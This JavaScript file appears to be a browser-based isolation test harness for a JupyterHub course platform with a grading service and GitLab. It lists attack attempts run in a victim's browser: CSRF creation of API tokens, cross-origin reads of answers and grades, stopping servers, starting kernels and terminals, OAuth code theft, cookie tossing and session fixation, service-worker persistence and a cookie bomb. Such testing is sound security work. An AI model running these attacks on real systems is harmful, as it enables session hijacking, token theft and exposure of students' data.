// A learner's own server shows this without a login. Each attempt runs in the browser of who opens the page, and returns
// what it got of them: a text, empty when it got nothing. `site` has the addresses and what only the victim's pages hold.
"use strict";

const SECONDS = 4;
const within = promise => Promise.race([promise, new Promise(go => setTimeout(() => go(""), SECONDS * 1000))]);
const got = (site, text) => (site.marks.some(mark => String(text).includes(mark)) ? String(text).slice(0, 300) : "");
const read = async (site, url, options = {}) => {
  try {
    const answer = await fetch(url, { credentials: "include", cache: "no-store", ...options });
    return got(site, await answer.text());
  } catch {
    return "";
  }
};
const peek = (site, page) => {
  try {
    return got(site, page.document.documentElement.outerHTML);
  } catch {
    return "";
  }
};
const strange = page => {
  try {
    return !page.document;
  } catch {
    return true; // it is on another origin now
  }
};
const frame = url =>
  new Promise(go => {
    const made = document.createElement("iframe");
    made.onload = () => go(made);
    made.src = url;
    document.body.append(made);
  });
const loading = page => {
  try {
    return page.location.href === "about:blank" || page.document.readyState !== "complete";
  } catch {
    return false; // it is on another origin now
  }
};
// A busy machine may take long to send a page: the attempt has its seconds from then on.
const opened = async (site, url) => {
  const page = window.open(url, "_blank", "popup,width=300,height=300");
  const turns = async more => {
    let found = "";
    for (let turn = 0; page && !found && !strange(page) && more(turn); turn++) {
      await new Promise(go => setTimeout(go, 100));
      found = peek(site, page);
    }
    return found;
  };
  const found = (await turns(turn => loading(page) && turn < 300)) || (await turns(turn => turn < SECONDS * 10));
  return [page, found];
};
const xsrfs = () => document.cookie.split("; ").filter(one => one.startsWith("_xsrf=")).map(one => one.slice(6));
const send = (url, fields, target) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, target });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
};
const sentInFrame = async (url, fields) => {
  const inside = await frame("about:blank");
  inside.name = `f${Math.random()}`.replace(".", "");
  const loaded = new Promise(go => (inside.onload = () => go(inside)));
  send(url, fields, inside.name);
  return within(loaded);
};
const parents = () => {
  const labels = location.hostname.split(".");
  return labels.map((_, place) => labels.slice(place).join(".")).slice(0, -1);
};
const toss = (name, value, path = "/") => {
  for (const domain of parents()) {
    document.cookie = `${name}=${value}; Domain=${domain}; Path=${path}; Secure; SameSite=None`;
    document.cookie = `${name}=${value}; Domain=${domain}; Path=${path}; Secure; SameSite=None; Partitioned`;
  }
  document.cookie = `${name}=${value}; Path=${path}; Secure; SameSite=None`;
};
// In a page of the site that it can read, what a form needs; then the form, as if clicked.
const clicked = async (site, url, selector, change = () => {}) => {
  const [page, found] = await opened(site, url);
  if (!found) return "";
  try {
    const form = page.document.querySelector(selector);
    change(form);
    form.submit();
    await new Promise(go => setTimeout(go, 1500));
    return peek(site, page) || found;
  } catch {
    return "";
  }
};

window.attempts = {
  // The hub.
  "hub: fetch its home page": site => read(site, `${site.hub}/hub/home`),
  "hub: fetch it without CORS": site => read(site, `${site.hub}/hub/home`, { mode: "no-cors" }),
  "hub: ask the API who is there": site => read(site, `${site.hub}/hub/api/user`),
  "hub: make a token": async site => {
    const url = `${site.hub}/hub/api/users/${site.victim}/tokens`;
    for (const xsrf of ["", ...xsrfs()]) {
      const options = { method: "POST", body: "{}", headers: { "X-XSRFToken": xsrf }, credentials: "include" };
      try {
        const answer = await (await fetch(url, options)).json();
        if (answer.token) return answer.token;
      } catch {
        continue;
      }
    }
    return "";
  },
  "hub: make a token by a simple request": async site => {
    const url = `${site.hub}/hub/api/users/${site.victim}/tokens`;
    const body = JSON.stringify({ note: "hostile" });
    await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => null);
    return "";
  },
  "hub: frame its home page": async site => peek(site, (await within(frame(`${site.hub}/hub/home`))).contentWindow),
  "hub: open its home page and read it": async site => (await opened(site, `${site.hub}/hub/home`))[1],
  "hub: open its page of tokens and read it": async site => (await opened(site, `${site.hub}/hub/token`))[1],
  "hub: become the same site by document.domain": async site => {
    try {
      document.domain = parents().at(-1);
    } catch {
      return "";
    }
    return (await opened(site, `${site.hub}/hub/home`))[1];
  },
  "hub: read its cookies": site => {
    const others = document.cookie.split("; ").filter(one => !site.tossed.includes(one.slice(one.indexOf("=") + 1)));
    return got({ marks: ["jupyterhub-", "atelier-desk"] }, others.join("; "));
  },
  "hub: sign out by an image": async site => {
    const image = new Image();
    const tried = new Promise(go => (image.onload = image.onerror = () => go("")));
    image.src = `${site.hub}/hub/logout`;
    return within(tried);
  },
  "hub: sign out by a form": async site => (await sentInFrame(`${site.hub}/hub/logout`, { _xsrf: xsrfs()[0] ?? "" })) && "",
  "hub: stop the server": async site => {
    const url = `${site.hub}/hub/api/users/${site.victim}/servers/${site.course}`;
    const options = { method: "DELETE", credentials: "include", headers: { "X-XSRFToken": xsrfs()[0] ?? "" } };
    const answer = await fetch(url, options).catch(() => null);
    return answer && answer.ok ? "stopped" : "";
  },
  "hub: have a sign-in code sent here": async site => {
    const query = new URLSearchParams({
      client_id: "service-desk",
      redirect_uri: location.href,
      response_type: "code",
      state: "x",
    });
    const page = (await within(frame(`${site.hub}/hub/api/oauth2/authorize?${query}`))).contentWindow;
    try {
      return page.location.search.includes("code=") ? page.location.href : "";
    } catch {
      return "";
    }
  },
  "hub: have a code for this server sent here": async site => {
    const page = window.open(`${site.own}/user/${site.attacker}/${site.course}/lab`);
    let found = "";
    for (let turn = 0; page && !found && turn < 20; turn++) {
      await new Promise(go => setTimeout(go, 100));
      try {
        found = page.location.search.includes("code=") ? page.location.href : "";
      } catch {
        found = "";
      }
    }
    return found;
  },
  // The victim's server.
  "server: fetch files": site => read(site, `${site.server}/api/contents`),
  "server: fetch a file without CORS": site => read(site, `${site.server}/files/${site.course}/README.md`, { mode: "no-cors" }),
  "server: start a kernel": async site => {
    const options = { method: "POST", credentials: "include", headers: { "X-XSRFToken": xsrfs()[0] ?? "" } };
    const answer = await fetch(`${site.server}/api/kernels`, options).catch(() => null);
    return answer && answer.status === 201 ? "kernel" : "";
  },
  "server: start a kernel by a form": async site => (await sentInFrame(`${site.server}/api/kernels`, { name: "python3" })) && "",
  "server: start a terminal": async site => {
    const options = { method: "POST", mode: "no-cors", credentials: "include" };
    await fetch(`${site.server}/api/terminals`, options).catch(() => null);
    return "";
  },
  "server: open a websocket": site =>
    within(
      new Promise(go => {
        const channel = new WebSocket(`${site.server.replace("https", "wss")}/api/events/subscribe`);
        channel.onopen = () => go("open");
        channel.onerror = () => go("");
      })
    ),
  "server: frame it": async site => peek(site, (await within(frame(`${site.server}/lab`))).contentWindow),
  "server: open it and read it": async site => (await opened(site, `${site.server}/lab`))[1],
  "server: a script of it": async site => {
    const script = document.createElement("script");
    const tried = new Promise(go => (script.onload = script.onerror = () => go("")));
    script.src = `${site.server}/api/status`;
    document.body.append(script);
    return within(tried);
  },
  // The desk.
  "desk: fetch the exercises": site => read(site, `${site.hub}/services/desk/courses/${site.course}/exercises`),
  "desk: fetch everybody's answers": site => read(site, `${site.hub}/services/desk/courses/${site.course}/answers`),
  "desk: fetch everybody's grades (CSV)": site => read(site, `${site.hub}/services/desk/courses/${site.course}/answers.csv`),
  "desk: frame the access page": async site => peek(site, (await within(frame(`${site.hub}/services/desk/`))).contentWindow),
  "desk: open the access page and read it": async site => (await opened(site, `${site.hub}/services/desk/`))[1],
  "desk: open everybody's answers and read them": async site =>
    (await opened(site, `${site.hub}/services/desk/courses/${site.course}/answers`))[1],
  "desk: make a GitLab token by fetch": async site => {
    const body = new URLSearchParams({ label: "hostile", days: "30", csrf: "x" });
    return read(site, `${site.hub}/services/desk/tokens`, { method: "POST", body });
  },
  "desk: make a GitLab token by a form in a frame": async site =>
    (await sentInFrame(`${site.hub}/services/desk/tokens`, { label: "hostile", days: "30", csrf: "x" })) && "",
  "desk: make a GitLab token by a form in a window": async site => {
    window.open("about:blank", "hostile-window");
    send(`${site.hub}/services/desk/tokens`, { label: "hostile", days: "30", csrf: "x" }, "hostile-window");
    return "";
  },
  "desk: make a GitLab token by its own form": site =>
    clicked(site, `${site.hub}/services/desk/`, 'form[action$="/tokens"]', form => {
      form.querySelector('[name="label"]').value = "hostile";
    }),
  // GitLab.
  "gitlab: fetch the profile": site => read(site, `${site.gitlab}/-/user_settings/profile`),
  "gitlab: ask the API who is there": site => read(site, `${site.gitlab}/api/v4/user`),
  "gitlab: frame it": async site => peek(site, (await within(frame(`${site.gitlab}/`))).contentWindow),
  "gitlab: open it and read it": async site => (await opened(site, `${site.gitlab}/`))[1],
  // What stays.
  "stay: a service worker for the whole host": async site => {
    try {
      const worker = await navigator.serviceWorker.register("worker.js", { scope: "/" });
      return worker.scope;
    } catch {
      return "";
    }
  },
  "stay: a service worker for the hub": async site => {
    try {
      return (await navigator.serviceWorker.register("worker.js", { scope: `${site.hub}/` })).scope;
    } catch {
      return "";
    }
  },
  "stay: a sign-in of one's own choice for GitLab": async () => toss("_gitlab_session", "hostile") ?? "",
  "stay: one for a part of GitLab": async () => toss("_gitlab_session", "hostile", "/users") ?? "",
  "stay: a session of one's own choice for the hub": async () => {
    for (const name of ["jupyterhub-session-id", "__Host-jupyterhub-session-id", "jupyterhub-hub-login"]) toss(name, "hostile");
    return "";
  },
  "stay: one for a part of the hub": async () => toss("jupyterhub-session-id", "hostile", "/hub/") ?? "",
  "stay: a session of one's own choice for the desk": async () => {
    for (const name of ["atelier-desk", "__Host-atelier-desk"]) toss(name, "hostile", "/services/desk/");
    return "";
  }
};
// Before the victim was ever here: sign-ins of the attacker's own choice for all hosts that a cookie of this page reaches.
window.before = wanted => {
  for (const [name, value, path] of wanted)
    for (const kind of ["", "; Partitioned"])
      document.cookie = `${name}=${value}; Domain=${parents().at(-1)}; Path=${path}; Secure; SameSite=None${kind}`;
  return document.cookie.length; // asked last: then all of them have arrived
};
window.bomb = () => {
  for (let number = 0; number < 40; number++) toss(`bomb${number}`, "x".repeat(3500));
  return document.cookie.length; // asked last: then all of them have arrived
};
